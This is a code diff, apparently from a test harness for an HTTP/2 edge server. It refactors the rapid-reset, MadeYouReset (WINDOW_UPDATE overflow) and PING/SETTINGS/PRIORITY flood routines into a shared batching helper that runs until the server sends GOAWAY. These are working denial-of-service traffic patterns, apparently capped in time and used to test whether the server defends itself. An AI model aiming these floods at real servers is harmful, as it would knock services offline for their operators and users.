@@ -200,6 +200,24 @@ function request_block(authority = host, target = path, method = 'GET', more = [
                         ...more.map(([index, value]) => literal(index, value))]);
 }
 
+// Writes `perBatch` rounds of `frames(id)` (the frames for stream `id`, odd ids counting up) a
+// batch at a time, reading what comes back, until a GOAWAY comes, the connection closes, 100,000
+// rounds went, or 5 s (or `until`) passed; then waits `linger` ms and closes.
+async function untilGoaway(c, perBatch, frames, until = Date.now() + 5000, linger = 200) {
+  let sent = 0;
+  let id = 1;
+  const deadline = Math.min(until, Date.now() + 5000);
+  while (c.goaway === null && !c.closed && Date.now() < deadline && sent < 100000) {
+    const batch = [];
+    for (let i = 0; i < perBatch; ++i, id += 2, ++sent) batch.push(...frames(id));
+    c.socket.write(Buffer.concat(batch));
+    await new Promise((r) => setImmediate(r));
+  }
+  await new Promise((r) => setTimeout(r, linger));
+  c.socket.destroy();
+  return { sent, goaway: c.goaway };
+}
+
 // The rapid-reset attack: HEADERS for a new stream then RST_STREAM(CANCEL) for it, in batches,
 // until a GOAWAY comes back.
 async function reset(until = Date.now() + 5000, linger = 200) {
@@ -207,18 +225,7 @@ async function reset(until = Date.now() + 5000, linger = 200) {
   const block = request_block();
   const cancel = Buffer.alloc(4);
   cancel.writeUInt32BE(8);
-  let sent = 0;
-  let id = 1;
-  const deadline = Math.min(until, Date.now() + 5000);
-  while (c.goaway === null && !c.closed && Date.now() < deadline && sent < 100000) {
-    const batch = [];
-    for (let i = 0; i < 50; ++i, id += 2, ++sent) batch.push(c.frame(1, 0x5, id, block), c.frame(3, 0, id, cancel));
-    c.socket.write(Buffer.concat(batch));
-    await new Promise((r) => setImmediate(r));
-  }
-  await new Promise((r) => setTimeout(r, linger));
-  c.socket.destroy();
-  return { sent, goaway: c.goaway };
+  return untilGoaway(c, 50, (id) => [c.frame(1, 0x5, id, block), c.frame(3, 0, id, cancel)], until, linger);
 }
 
 // Resets the edge makes itself: each stream's request, then a WINDOW_UPDATE past the largest
@@ -228,18 +235,7 @@ async function madeyoureset() {
   const block = request_block();
   const overflow = Buffer.alloc(4);
   overflow.writeUInt32BE(0x7fffffff);
-  let sent = 0;
-  let id = 1;
-  const deadline = Date.now() + 5000;
-  while (c.goaway === null && !c.closed && Date.now() < deadline && sent < 100000) {
-    const batch = [];
-    for (let i = 0; i < 50; ++i, id += 2, ++sent) batch.push(c.frame(1, 0x5, id, block), c.frame(8, 0, id, overflow));
-    c.socket.write(Buffer.concat(batch));
-    await new Promise((r) => setImmediate(r));
-  }
-  await new Promise((r) => setTimeout(r, 200));
-  c.socket.destroy();
-  return { sent, goaway: c.goaway };
+  return untilGoaway(c, 50, (id) => [c.frame(1, 0x5, id, block), c.frame(8, 0, id, overflow)]);
 }
 
 // A client that makes the edge queue frames it never reads: SETTINGS_INITIAL_WINDOW_SIZE 0, the
@@ -288,18 +284,7 @@ async function flood() {
   const make = { ping: () => c.frame(6, 0, 0, Buffer.alloc(8)), settings: () => c.frame(4, 0, 0, Buffer.alloc(0)),
     priority: (id) => c.frame(2, 0, id, priority) }[kind];
   if (!make) throw new Error(`flood: no such kind ${kind}`);
-  let sent = 0;
-  let id = 1;
-  const deadline = Date.now() + 5000;
-  while (c.goaway === null && !c.closed && Date.now() < deadline && sent < 100000) {
-    const batch = [];
-    for (let i = 0; i < 20; ++i, id += 2, ++sent) batch.push(make(id));
-    c.socket.write(Buffer.concat(batch));
-    await new Promise((r) => setImmediate(r));
-  }
-  await new Promise((r) => setTimeout(r, 200));
-  c.socket.destroy();
-  return { sent, goaway: c.goaway };
+  return untilGoaway(c, 20, (id) => [make(id)]);
 }
 
 // `n` streams opened at once and left open (their requests never end), once the edge's SETTINGS
